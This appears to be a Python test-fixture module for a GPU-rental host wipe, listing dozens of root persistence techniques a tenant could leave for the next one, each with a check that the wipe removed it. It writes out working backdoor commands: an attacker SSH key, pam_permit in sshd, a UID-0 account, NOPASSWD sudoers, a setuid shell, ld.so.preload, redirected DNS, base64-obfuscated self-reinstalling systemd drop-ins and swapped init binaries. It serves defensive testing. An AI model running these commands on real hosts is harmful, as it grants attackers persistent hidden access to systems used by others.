"""What a tenant who is root on an allocated host plants, to be there when the next one comes.

Each trick has a command that plants it and one that looks whether it is there: the look succeeds on the host of the
attacker, so that a trick that was never planted is noticed, and must fail on the host that the next tenant gets.
"""

import base64
from dataclasses import dataclass

STATE = "/var/lib/gpuaas/agent"
ATTACKER = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIiHp3mnxdRGTqZHN1tkxSUwX0K2N8yS5mW0xZqgqJtE attacker"
# A record as the agent writes it: an account for the attacker's key, of an allocation that never was.
_RECORD = (
    '{"allocation_id": "alc_00000000000000000000000666", "shape": "baremetal", "generation": 1, "login_user": "gpu",'
    ' "principal": "alc_00000000000000000000000666", "address": "", "released": false, "verified": false,'
    ' "baseline_digest": "", "marker": null, "grants": [{"grant_id": "grt_0", "public_key": "' + ATTACKER + '",'
    ' "expires_at": null}], "drives": []}'
)
# A task as the journal keeps it, which nobody signed: wipe whatever is there at the next start.
_TASK = (
    '{"generation": 9, "tasks": {"tsk_00000000000000000000000666": {"envelope": "{\\"task_id\\":'
    ' \\"tsk_00000000000000000000000666\\", \\"kind\\": \\"wipe\\"}", "kid": "pky_0", "signature": "AA==",'
    ' "generation": 9, "result": null}}}'
)
# A program in the place of another, started from there, and then the first one back: the disk looks as before.
_SWAP = (
    "cp -p {path} {path}.true; cp -p {path} {path}.false; printf planted >> {path}.false; mv {path}.false {path};"
    " {start}; mv {path}.true {path}"
)

# A key of the node that the attacker knows, in the place of the one that the agent would make next.
_KEY = "MC4CAQAwBQYDK2VwBCIEIHBsYW50ZWQgcGxhbnRlZCBwbGFudGVkIHBsYW50ZWQg"

# The journal that a host writes is the one file that the wipe neither restores nor empties, but has begun anew.
_JOURNAL = "/var/log/journal/$(cat /etc/machine-id)/system.journal"


@dataclass(frozen=True, slots=True)
class Trick:
    """Shell text to plant it, and shell text that succeeds where it is there; both run as root."""

    name: str
    plant: str
    look: str


def written(name: str, path: str, text: str = "planted", mode: str = "644") -> Trick:
    """A file that was not there, with its folder."""
    plant = f"mkdir -p $(dirname {path}); cat > {path} <<'PLANTED'\n{text}\nPLANTED\nchmod {mode} {path}"
    return Trick(name, plant, f"test -e {path}")


def appended(name: str, path: str, line: str) -> Trick:
    """A line more in a file of the system."""
    return Trick(name, f"echo '{line}' >> {path}", f"grep -qF '{line}' {path}")


def started_late(name: str, service: str, program: str) -> Trick:
    """A drop-in of a known service. What it starts writes the drop-in again when a wipe has removed it; after a boot it
    removes the drop-in itself, and runs on in the service's own program.
    """
    folder = f"/etc/systemd/system/{service}.d"
    script = (
        f"f={folder}/late.conf; t=$(<$f); if [ -e /run/planted-late ]; then"
        ' (while :; do [ -e $f ] || { mkdir -p ${f%/*}; echo "$t" > $f; sync; }; sleep 0.1; done) &'
        f" else rm -r {folder}; export PLANTED_LATE=1; fi; exec {program}"
    )
    packed = base64.b64encode(script.encode()).decode()
    start = f"/bin/bash -c 'eval \"$$(echo {packed} | base64 -d)\"'"
    unit = f"[Service]\nRestart=always\nRestartSec=2\nExecStart=\nExecStart={start}"
    plant = (
        f"touch /run/planted-late; mkdir -p {folder}; cat > {folder}/late.conf <<'PLANTED'\n{unit}\nPLANTED\n"
        f"systemctl daemon-reload; systemctl restart {service}"
    )
    return Trick(name, plant, f"test -e {folder}/late.conf || grep -qsz '^PLANTED_LATE=' /proc/[0-9]*/environ")


# In the order in which they are planted: what makes the host stumble comes last.
TRICKS = (
    Trick(
        "a parent of the agent",
        "mkdir -p /etc/systemd/system/gpuaas-agent.service.d; printf '[Service]\\nExecStart=\\nExecStart=/bin/bash -c"
        ' "/usr/bin/python3 -m gpuaas_agent run & while :; do date > /run/planted-parent; sleep 0.2; done"\\n\''
        " > /etc/systemd/system/gpuaas-agent.service.d/parent.conf; systemctl daemon-reload;"
        # An agent that starts removes what nobody signed; what is planted next comes after that.
        f" touch {STATE}/resources/before; systemctl restart gpuaas-agent;"
        f" for i in $(seq 200); do test -e {STATE}/resources/before || break; sleep 0.1; done",
        "test -e /etc/systemd/system/gpuaas-agent.service.d/parent.conf || pgrep -f planted-parent",
    ),
    # The agent's own files
    written(
        "an allocation record with a key", f"{STATE}/allocations/alc_00000000000000000000000666.json", _RECORD, "600"
    ),
    written("a task in the journal", f"{STATE}/resources/alc_00000000000000000000000666.json", _TASK, "600"),
    written("a file deep in the agent's state", f"{STATE}/resources/deep/er/planted"),
    Trick(
        "another platform in the agent's identity",
        f'sed -i \'s#"urls": *\\[#"urls": ["https://203.0.113.66:1", #\' {STATE}/node.json',
        f"grep -q 203.0.113.66 {STATE}/node.json",
    ),
    Trick(
        "the node's next key",
        f"umask 077; printf -- '-----BEGIN PRIVATE KEY-----\\n{_KEY}\\n-----END PRIVATE KEY-----\\n' > {STATE}/agent.key.next",
        f"grep -qs {_KEY} {STATE}/agent.key {STATE}/agent.key.next",
    ),
    Trick(
        "the agent's configuration",
        'sed -i \'s/^{/{"erase_drives": false, "planted": true,/\' /etc/gpuaas/agent.json',
        "grep -q planted /etc/gpuaas/agent.json",
    ),
    written(
        "a drop-in of the agent's unit",
        "/etc/systemd/system/gpuaas-agent.service.d/planted.conf",
        "[Service]\nEnvironment=PLANTED=1",
    ),
    Trick(
        "another program of the agent over the real one",
        "cp -r /opt/gpuaas/agent /opt/.agent; echo '# planted' >> /opt/.agent/gpuaas_agent/__init__.py;"
        " mount --bind /opt/.agent /opt/gpuaas/agent",
        "grep -q planted /opt/gpuaas/agent/gpuaas_agent/__init__.py",
    ),
    # Files that are allowed to change
    appended("the resolver's configuration", "/etc/resolv.conf", "nameserver 203.0.113.66"),
    appended("the hosts file", "/etc/hosts", "203.0.113.66 registry.example"),
    written("a key in the agent's ssh folder", "/etc/gpuaas/ssh/keys/planted", ATTACKER),
    written("a cache", "/var/cache/planted/payload"),
    written("a log", "/var/log/planted.log"),
    written("a journal of another machine", "/var/log/journal/00000000000000000000000000000666/system.journal"),
    # Started by the system
    written(
        "a generator of units", "/etc/systemd/system-generators/planted", "#!/bin/sh\ntouch /run/planted-unit", "755"
    ),
    Trick(
        "a timer",
        "printf '[Timer]\\nOnBootSec=1s\\nOnUnitActiveSec=1s\\n[Install]\\nWantedBy=timers.target\\n'"
        " > /etc/systemd/system/planted.timer;"
        " printf '[Service]\\nExecStart=/bin/touch /run/planted-timer\\n' > /etc/systemd/system/planted.service;"
        " systemctl daemon-reload; systemctl enable --now planted.timer",
        "systemctl cat planted.timer || systemctl is-enabled planted.timer || test -e /run/planted-timer",
    ),
    Trick(
        "a unit of a user that lingers",
        "mkdir -p /var/lib/systemd/linger /root/.config/systemd/user; touch /var/lib/systemd/linger/root;"
        " printf '[Service]\\nExecStart=/bin/true\\n' > /root/.config/systemd/user/planted.service",
        "test -e /var/lib/systemd/linger/root || test -e /root/.config/systemd/user/planted.service",
    ),
    written("an rc.local", "/etc/rc.local", "#!/bin/sh\ntouch /run/planted-rc", "755"),
    written("a cron table", "/etc/cron.d/planted", "* * * * * root touch /run/planted-cron"),
    written("root's own cron table", "/var/spool/cron/crontabs/root", "* * * * * touch /run/planted-cron", "600"),
    written("an at job", "/var/spool/cron/atjobs/a0000101c0ffee", "#!/bin/sh\ntouch /run/planted-at", "700"),
    written("a udev rule", "/etc/udev/rules.d/99-planted.rules", 'ACTION=="add", RUN+="/bin/touch /run/planted-udev"'),
    written("a module to load", "/etc/modules-load.d/planted.conf", "dummy"),
    written("a command in place of a module", "/etc/modprobe.d/planted.conf", "install dummy /bin/touch /run/planted"),
    # Started by whoever logs in or runs a program
    appended("PAM", "/etc/pam.d/sshd", "auth sufficient pam_permit.so"),
    written("a drop-in of sshd", "/etc/ssh/sshd_config.d/00-planted.conf", "Banner /etc/hostname"),
    written("root's authorized keys", "/root/.ssh/authorized_keys", ATTACKER, "600"),
    appended("a dotfile of root", "/root/.bashrc", "touch /run/planted-bashrc"),
    written("a profile script", "/etc/profile.d/planted.sh", "export PLANTED=1"),
    written("a message of the day", "/etc/update-motd.d/99-planted", "#!/bin/sh\necho planted", "755"),
    appended("the environment", "/etc/environment", "PLANTED=1"),
    written("an environment.d file", "/etc/environment.d/planted.conf", "PLANTED=1"),
    written("sudoers", "/etc/sudoers.d/planted", "daemon ALL=(ALL) NOPASSWD:ALL", "440"),
    appended("an account with the number of root", "/etc/passwd", "planted:x:0:0::/root:/bin/bash"),
    appended("the name service switch", "/etc/nsswitch.conf", "networks: files # planted"),
    written("a command before the system's", "/usr/local/bin/ls", '#!/bin/sh\nexec /bin/ls "$@"', "755"),
    Trick(
        "a shell with setuid",
        "cp /bin/bash /usr/local/sbin/planted; chmod 4755 /usr/local/sbin/planted",
        "test -e /usr/local/sbin/planted",
    ),
    Trick(
        "a program with capabilities",
        "cp /bin/true /usr/local/bin/capable; setcap cap_setuid+ep /usr/local/bin/capable",
        "getcap /usr/local/bin/capable | grep -q setuid",
    ),
    Trick(
        "capabilities of a program of the system",
        "setcap cap_setuid+ep /usr/bin/python3.11",
        "getcap /usr/bin/python3.11 | grep -q setuid",
    ),
    written("a path of the dynamic linker", "/etc/ld.so.conf.d/planted.conf", "/opt/planted"),
    Trick(
        "a library in every program",
        "cp /lib/*-linux-gnu/libdl.so.2 /usr/local/lib/libplanted.so; echo /usr/local/lib/libplanted.so > /etc/ld.so.preload",
        "test -e /etc/ld.so.preload || test -e /usr/local/lib/libplanted.so",
    ),
    written("Python's sitecustomize", "/usr/lib/python3/dist-packages/sitecustomize.py", "import os"),
    written("a path file of Python", "/usr/lib/python3/dist-packages/planted.pth", "import os"),
    # Started by the package manager
    written("a hook of apt", "/etc/apt/apt.conf.d/99planted", 'DPkg::Pre-Invoke {"touch /run/planted-apt";};'),
    written("a script of a package", "/var/lib/dpkg/info/planted.postinst", "#!/bin/sh\nexit 0", "755"),
    appended("a trigger of dpkg", "/var/lib/dpkg/triggers/File", "/etc planted"),
    # Started by the container runtime, or asked by it
    written("a container of systemd's", "/etc/containers/systemd/planted.container", "[Container]\nImage=planted"),
    written(
        "another place for images",
        "/etc/containers/registries.conf.d/00-planted.conf",
        '[[registry]]\nprefix = "*.example"\nlocation = "203.0.113.66:5000"\ninsecure = true',
    ),
    Trick(
        "a trust policy for images",
        'mkdir -p /etc/containers; echo \'{"transports": {"planted": {}}}\' > /etc/containers/policy.json',
        "grep -q planted /etc/containers/policy.json",
    ),
    written("a hook of every container", "/usr/share/containers/oci/hooks.d/planted.json", '{"version": "1.0.0"}'),
    written("a password for a registry", "/root/.config/containers/auth.json", '{"auths": {}}', "600"),
    # Where nobody looks
    written("shared memory", "/dev/shm/.planted"),
    written("deep in /run", "/run/systemd/planted/deep/er"),
    written("scratch", "/var/tmp/.planted/x"),
    Trick(
        "files under a mount",
        "mkdir -p /mnt/planted; mount --bind / /mnt/planted; touch /mnt/planted/run/planted /mnt/planted/tmp/planted;"
        " umount /mnt/planted; rmdir /mnt/planted",
        "mkdir -p /mnt/look; mount --bind / /mnt/look; ls /mnt/look/run /mnt/look/tmp | grep -qx planted; found=$?;"
        " umount /mnt/look; rmdir /mnt/look; exit $found",
    ),
    written("what a check of the file system found", "/lost+found/planted"),
    Trick(
        "an attribute of the root folder",
        "python3 -c \"import os; os.setxattr('/', 'user.planted', b'x')\"",
        "python3 -c \"import os, sys; sys.exit('user.planted' not in os.listxattr('/'))\"",
    ),
    Trick(
        "a link in place of a scratch folder",
        "cp -a /var/tmp /opt/planted-tmp; mv /var/tmp /var/tmp.before; ln -s /opt/planted-tmp /var/tmp",
        "test -L /var/tmp || test -e /opt/planted-tmp || test -e /var/tmp.before",
    ),
    Trick(
        "a file that can not be changed",
        "echo planted > /etc/planted-immutable; chattr +i /etc/planted-immutable",
        "test -e /etc/planted-immutable",
    ),
    Trick(
        "a folder that can not be changed",
        "mkdir -p /opt/planted-folder/in; touch /opt/planted-folder/in/x; chattr +i /opt/planted-folder/in /opt/planted-folder",
        "test -e /opt/planted-folder",
    ),
    Trick(
        "a journal that can not be changed",
        f"printf planted >> {_JOURNAL}; chattr +i {_JOURNAL}",
        f"lsattr {_JOURNAL} | cut -d ' ' -f 1 | grep -q i || tail -c 7 {_JOURNAL} | grep -q planted",
    ),
    Trick(
        "an attribute of a file of the system",
        "python3 -c \"import os; os.setxattr('/etc/hostname', 'user.planted', b'x')\"",
        "python3 -c \"import os, sys; sys.exit('user.planted' not in os.listxattr('/etc/hostname'))\"",
    ),
    Trick("a device", "mknod -m 666 /dev/.planted c 1 5", "test -e /dev/.planted"),
    # In the kernel and in memory
    Trick(
        "a mount over a folder",
        "mkdir -p /opt/.over; touch /opt/.over/planted; mount --bind /opt/.over /usr/games",
        "test -e /usr/games/planted",
    ),
    Trick(
        "a file system in memory",
        "mkdir -p /srv/planted; mount -t tmpfs planted /srv/planted; touch /srv/planted/x",
        "grep -q ' /srv/planted ' /proc/self/mountinfo || test -e /srv/planted",
    ),
    Trick("a network namespace", "ip netns add planted", "ip netns list | grep -q planted"),
    Trick(
        "a packet filter",
        "nft add table inet planted; nft 'add chain inet planted out { type filter hook output priority 0; }'",
        "nft list tables | grep -q planted",
    ),
    Trick("a route", "ip route add 203.0.113.0/24 dev eth0", "ip route | grep -q 203.0.113"),
    Trick("a rule of routing", "ip rule add from 203.0.113.7 table 100", "ip rule | grep -q 203.0.113"),
    Trick("a setting of the kernel", "sysctl -qw net.ipv4.ip_forward=1", "grep -q 1 /proc/sys/net/ipv4/ip_forward"),
    written("a setting for the next start", "/etc/sysctl.d/99-planted.conf", "net.ipv4.ip_forward = 1"),
    Trick("the host's name", "hostname planted", 'test "$(hostname)" = planted'),
    Trick(
        "a process named like the kernel's",
        "bash -c 'exec -a \"[kworker/0:6]\" sleep 99991' >/dev/null 2>&1 & disown",
        "pgrep -f 'sleep 99991|kworker/0:6'",
    ),
    Trick(
        "a container",
        "systemd-run -q --unit=planted-container unshare --pid --fork --mount-proc --net sleep 99992",
        "pgrep -f 'sleep 99992'",
    ),
    Trick(
        "somebody who plants it again",
        "systemd-run -q --unit=planted-again sh -c 'while :; do date > /etc/planted-again; sleep 0.1; done'; sleep 0.3",
        "test -e /etc/planted-again || pgrep -f planted-again",
    ),
    Trick(
        "a listener",
        "systemd-run -q --unit=planted-port python3 -m http.server 4666; for i in $(seq 100); do"
        " ss -ltn | grep -q :4666 && break; sleep 0.1; done",
        "ss -ltn | grep -q :4666",
    ),
    Trick(
        "a service that was started from another program",
        _SWAP.format(path="/usr/sbin/cron", start="systemctl restart cron"),
        "readlink /proc/$(systemctl show -P MainPID cron)/exe | grep -Eq 'deleted|false'",
    ),
    started_late(
        "a known service that comes back late",
        "dbus.service",
        "/usr/bin/dbus-daemon --system --address=systemd: --nofork --nopidfile --systemd-activation --syslog-only",
    ),
    Trick(
        "process 1 from another program",
        _SWAP.format(path="/usr/lib/systemd/systemd", start="systemctl daemon-reexec"),
        "readlink /proc/1/exe | grep -Eq 'deleted|false'",
    ),
)


def planting_script(tricks: tuple[Trick, ...] = TRICKS) -> str:
    """All of them, one after the other; one that does not work here does not stop the next."""
    return "\n".join(f"( {trick.plant}\n) || echo not planted: {number} >&2" for number, trick in enumerate(tricks))


def looking_script(tricks: tuple[Trick, ...] = TRICKS) -> str:
    """A line for each trick that is there: its number among them."""
    return (
        "\n".join(f"( {trick.look} ) >/dev/null 2>&1 && echo {number}" for number, trick in enumerate(tricks))
        + "\ntrue"
    )
